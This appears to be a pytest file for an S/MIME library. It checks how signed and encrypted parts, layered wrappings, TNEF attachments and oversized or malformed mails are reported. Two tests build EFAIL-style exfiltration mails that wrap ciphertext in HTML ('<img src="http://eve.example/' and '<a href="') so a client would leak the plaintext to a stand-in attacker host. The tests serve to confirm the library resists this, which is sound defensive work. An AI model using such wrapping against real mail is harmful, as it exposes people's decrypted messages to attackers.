"""What counts is the chain of layers from the root; all else is a part, named, not believed."""

from __future__ import annotations

import time

import pytest

import smime
from smime.cms.enveloped import FAILED
from tests.public.test_spoofing import payload_sealed
from tests.support.world import World

MAIL = (
    b"From: Alice <alice@example.org>\r\n"
    b"To: Bob <bob@example.org>\r\n"
    b"Subject: the price is 7\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=us-ascii\r\n"
    b"\r\n"
    b"the secret is noon\r\n"
)
OUTSIDE = (
    b"From: Alice <alice@example.org>\r\nTo: bob@example.org\r\nSubject: hi\r\n"
    b"MIME-Version: 1.0\r\n"
)
GCM = smime.Policy.modern().replace(cipher="aes-256-gcm")


def entity(mail: smime.Mail) -> bytes:
    """Return a protected mail as a part: without its message fields."""
    data = bytes(mail)
    return data[data.index(b"Content-Type") :]


def mixed(*parts: bytes, kind: bytes = b"multipart/mixed") -> bytes:
    body = b"".join(b"--edge\r\n" + part + b"\r\n" for part in parts) + b"--edge--\r\n"
    return OUTSIDE + b"Content-Type: " + kind + b"; boundary=edge\r\n\r\n" + body


def text(words: bytes, kind: bytes = b"text/plain") -> bytes:
    return b"Content-Type: " + kind + b"\r\n\r\n" + words


def codes(report: smime.Report) -> list[str]:
    return [note.code for note in report.notes]


def test_a_mailing_list_s_footer_makes_it_a_part(world: World) -> None:
    signed = entity(smime.sign(MAIL, by=world.alice))

    opened = smime.open(mixed(signed, text(b"-- the list")), trust=world.anchors)

    assert opened.signer is None
    assert opened.report.outcome is smime.Outcome.UNSIGNED
    assert opened.report.layers == ()
    (part,) = opened.report.parts
    assert (part.path, part.kind, part.form) == ("1", "signed", "multipart/signed")
    # What its signature says of that part is told, too.
    (check,) = part.signatures
    assert check.good
    assert check.signer == "alice@example.org"
    assert opened.safe_to_render
    assert codes(opened.report) == ["protected-part"]
    with pytest.raises(smime.SignatureRejected, match="not signed"):
        smime.verify(mixed(signed, text(b"-- the list")), trust=world.anchors)


def test_a_changed_signed_part_is_not_good(world: World) -> None:
    signed = entity(smime.sign(MAIL, by=world.alice)).replace(b"noon", b"four")

    report = smime.examine(mixed(signed, text(b"-- the list")), trust=world.anchors)

    assert [check.intact.code for part in report.parts for check in part.signatures] == [
        "digest-differs"
    ]


@pytest.mark.parametrize("gcm", [False, True])
def test_a_sealed_part_among_others_is_not_opened(world: World, gcm: bool) -> None:
    """EFAIL, direct exfiltration: the attacker's quotes stand around the ciphertext."""
    policy = GCM if gcm else smime.Policy.modern()
    sealed = entity(smime.encrypt(MAIL, to=world.bob, policy=policy))
    mail = mixed(
        text(b'<img src="http://eve.example/', b"text/html"), sealed, text(b'">', b"text/html")
    )

    opened = smime.open(mail, keys=world.bob, trust=world.anchors)

    assert not opened.encrypted
    assert b"secret" not in bytes(opened.mail)
    assert bytes(opened.mail) == mail
    assert [(part.path, part.kind) for part in opened.report.parts] == [("2", "encrypted")]
    assert not opened.safe_to_render
    assert opened.report.rendering.code == "sealed-part"
    with pytest.raises(smime.DecryptionFailed):
        smime.decrypt(mail, keys=world.bob, trust=world.anchors)


def test_two_sealed_parts_are_not_merged(world: World) -> None:
    sealed = entity(smime.encrypt(MAIL, to=world.bob))

    opened = smime.open(mixed(sealed, sealed), keys=world.bob, trust=world.anchors)

    assert [part.path for part in opened.report.parts] == ["1", "2"]
    assert b"secret" not in bytes(opened.mail)


def test_a_sealed_part_inside_a_sealed_mail(world: World) -> None:
    """Under an opened root, too, what stands among others is not opened."""
    inner = entity(smime.encrypt(MAIL, to=world.bob, policy=GCM))
    mail = smime.protect(
        mixed(text(b'<a href="', b"text/html"), inner), by=world.alice, to=world.bob, policy=GCM
    )

    opened = smime.open(mail, keys=world.bob, trust=world.anchors)

    assert opened.signer == "alice@example.org"
    assert [part.path for part in opened.report.parts] == ["2"]
    assert opened.report.rendering.code == "sealed-part"
    assert b"secret" not in bytes(opened.mail)


def test_a_forwarded_mail_keeps_its_bytes_and_is_a_part(world: World) -> None:
    forwarded = bytes(smime.sign(MAIL, by=world.alice))
    sealed = bytes(smime.encrypt(MAIL, to=world.bob))
    mail = mixed(
        text(b"see below"),
        b"Content-Type: message/rfc822\r\n\r\n" + forwarded,
        b"Content-Type: message/rfc822\r\n\r\n" + sealed,
    )
    sent = smime.sign(mail, by=world.alice)

    opened = smime.verify(sent, trust=world.anchors)

    assert forwarded in opened.content
    assert [(part.path, part.kind, part.forwarded) for part in opened.report.parts] == [
        ("2.1", "signed", True),
        ("3.1", "encrypted", True),
    ]
    assert opened.safe_to_render  # it is an attachment, and stays one


@pytest.mark.parametrize(
    ("cipher", "signed", "safe"),
    [
        ("aes-256-cbc", False, False),
        ("aes-256-cbc", True, True),
        ("aes-256-gcm", False, True),
        ("aes-256-gcm", True, True),
    ],
)
def test_content_without_a_tag_is_safe_only_if_signed(
    world: World, cipher: str, signed: bool, safe: bool
) -> None:
    policy = smime.Policy.modern().replace(cipher=cipher)
    sealed = (
        smime.protect(MAIL, by=world.alice, to=world.bob, policy=policy)
        if signed
        else smime.encrypt(MAIL, to=world.bob, policy=policy)
    )

    opened = smime.open(sealed, keys=world.bob, trust=world.anchors)

    (layer,) = [layer for layer in opened.report.layers if layer.kind == "encrypted"]
    assert layer.authenticated is cipher.endswith("gcm")
    assert opened.safe_to_render is safe
    assert safe or opened.report.rendering.code == "content-not-authenticated"


def test_a_good_signature_around_the_sealed_form_does_not_make_it_safe(world: World) -> None:
    sealed = smime.encrypt(MAIL, to=world.bob)
    policy = smime.Policy.modern().replace(headers="none")

    signed = smime.sign(sealed, by=world.alice, policy=policy)
    opened = smime.open(signed, keys=world.bob, trust=world.anchors)

    assert [layer.covers for layer in opened.report.layers] == ["sealed form", "content"]
    assert opened.report.signatures[0].good
    assert opened.signer is None
    assert not opened.safe_to_render
    assert "does not say who wrote" in str(opened.report)


def test_triple_wrap(world: World) -> None:
    inside = smime.protect(MAIL, by=world.alice, to=world.bob)

    opened = smime.verify(smime.sign(inside, by=world.alice), keys=world.bob, trust=world.anchors)

    assert [layer.kind for layer in opened.report.layers] == ["signed", "encrypted", "signed"]
    assert [layer.covers for layer in opened.report.layers if layer.kind == "signed"] == [
        "sealed form",
        "content",
    ]
    assert opened.signer == "alice@example.org"
    assert opened.message["Subject"] == "the price is 7"


def test_winmail_dat_is_named(world: World) -> None:
    tnef = (
        b"Content-Type: application/ms-tnef; name=winmail.dat\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\neJ8+IgAA\r\n"
    )

    report = smime.examine(mixed(text(b"hi"), tnef), trust=world.anchors)

    assert [part.kind for part in report.parts] == ["tnef"]
    assert codes(report) == ["tnef"]
    assert report.outcome is smime.Outcome.UNSIGNED


def test_winmail_dat_alone_is_named(world: World) -> None:
    mail = OUTSIDE + b"Content-Type: application/ms-tnef\r\n\r\nx\r\n"

    assert codes(smime.examine(mail, trust=world.anchors)) == ["tnef"]


@pytest.mark.parametrize("label", [b"PKCS7", b"CMS"])
def test_armour_that_is_the_whole_body_is_opened(world: World, label: bytes) -> None:
    opaque = bytes(smime.sign(MAIL, by=world.alice, opaque=True)).partition(b"\r\n\r\n")[2]
    armour = b"-----BEGIN " + label + b"-----\r\n" + opaque + b"-----END " + label + b"-----\r\n"
    mail = OUTSIDE + b"Content-Type: text/plain\r\n\r\n"

    opened = smime.open(mail + b"\r\n" + armour, trust=world.anchors)

    assert opened.signer == "alice@example.org"
    # With anything around it, it is a text.
    broken = armour.replace(b"M", b"!")
    for around in (b"see:\r\n" + armour, armour + b"that was it\r\n", armour + armour, broken):
        plain = smime.open(mail + around, trust=world.anchors)
        assert plain.report.layers == ()
        assert plain.signer is None


def test_a_sealed_part_with_a_long_header_block_is_found(world: World) -> None:
    long = b"X-Long: " + b"x" * 20_000 + b"\r\n"
    sealed = long + entity(smime.encrypt(MAIL, to=world.bob))

    report = smime.examine(mixed(text(b"a"), sealed), trust=world.anchors)

    assert [part.path for part in report.parts] == ["2"]


class TestLimits:
    """Whatever is sent, the answer comes within seconds."""

    @pytest.fixture(autouse=True)
    def _in_time(self):
        start = time.process_time()
        yield
        assert time.process_time() - start < 5

    def test_ten_thousand_parts(self, world: World) -> None:
        sealed = b"Content-Type: application/pkcs7-mime\r\n\r\nMIAG\r\n"
        mail = mixed(*[text(b"x")] * 9_999, sealed)

        report = smime.examine(mail, trust=world.anchors)

        assert codes(report) == ["parts-limit"]

    def test_ten_thousand_sealed_parts(self, world: World) -> None:
        sealed = b"Content-Type: application/pkcs7-mime\r\n\r\nMIAG\r\n"

        report = smime.examine(mixed(*[sealed] * 10_000), trust=world.anchors)

        assert len(report.parts) == 100
        assert codes(report) == ["protected-part", "parts-limit"]
        assert report.rendering.code == "sealed-part"

    def test_a_thousand_nested_multiparts(self, world: World) -> None:
        mail = text(b"x")
        for n in range(1000):
            mark = b"e%d" % n
            mail = (
                b"Content-Type: multipart/mixed; boundary=" + mark + b"\r\n\r\n--" + mark
                + b"\r\n" + mail + b"\r\n--" + mark + b"--\r\n"
            )  # fmt: skip

        report = smime.examine(OUTSIDE + mail, trust=world.anchors)

        assert codes(report) == ["parts-limit"]

    def test_a_thousand_layers(self, world: World) -> None:
        der = b"hello"
        from smime.cms.der import octet_string, oid, sequence, tlv

        for _ in range(1000):
            body = (
                b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n"
            )
            inner = sequence(oid("1.2.840.113549.1.7.1"), tlv(0xA0, octet_string(body + der)))
            signed = sequence(b"\x02\x01\x01", b"\x31\x00", inner, b"\x31\x00")
            der = sequence(oid("1.2.840.113549.1.7.2"), tlv(0xA0, signed))
        mail = OUTSIDE + body + der

        report = smime.examine(mail, trust=world.anchors)

        assert report.problem is not None
        assert report.problem.code == "limit-exceeded"
        with pytest.raises(smime.LimitExceeded):
            smime.open(mail, trust=world.anchors)

    @pytest.mark.parametrize(
        "boundary", [b"", b"a" * 71, b'"a\\"b"', b"\0", b'"a "', b"--edge", b"=_"]
    )
    def test_tricks_with_boundaries(self, world: World, boundary: bytes) -> None:
        signed = mixed(text(b"a"), text(b"b"))
        mail = signed.replace(b"boundary=edge", b"boundary=" + boundary).replace(
            b"--edge", b"--" + boundary.strip(b'"')
        )

        report = smime.examine(mail, trust=world.anchors)

        assert report.signer is None

    def test_nul_octets(self, world: World) -> None:
        signed = bytes(smime.sign(MAIL, by=world.alice))
        for at in range(0, len(signed), 97):
            damaged = signed[:at] + b"\0" + signed[at:]
            report = smime.examine(damaged, trust=world.anchors)
            assert report.signer in (None, "alice@example.org")


def test_what_opens_to_nonsense_fails_like_what_does_not_open(world: World) -> None:
    """Without a tag, what is said of the plaintext would tell who changes it (RFC 5652 §14)."""
    broken = [
        b"Content-Type: multipart/signed; protocol=application/pkcs7-signature\r\n\r\nx",
        b"Content-Type: application/pkcs7-mime\r\n\r\n!",
        b"Content-Type: message/rfc822; forwarded=no\r\n\r\n" + b"x: 1\r\n" * 20_000,
        b"x: 1\r\n" * 20_000,
    ]
    messages = set()
    for payload in broken:
        sealed = payload_sealed(world.bob, payload, OUTSIDE)
        with pytest.raises(smime.DecryptionFailed) as failed:
            smime.open(sealed, keys=world.bob, trust=world.anchors)
        messages.add((str(failed.value), failed.value.hint))
        report = smime.examine(sealed, keys=world.bob, trust=world.anchors)
        assert report.problem is not None
        assert report.problem.code == "not-opened"
    # The text of a wrong key, padding or tag.
    assert messages == {(FAILED, "")}
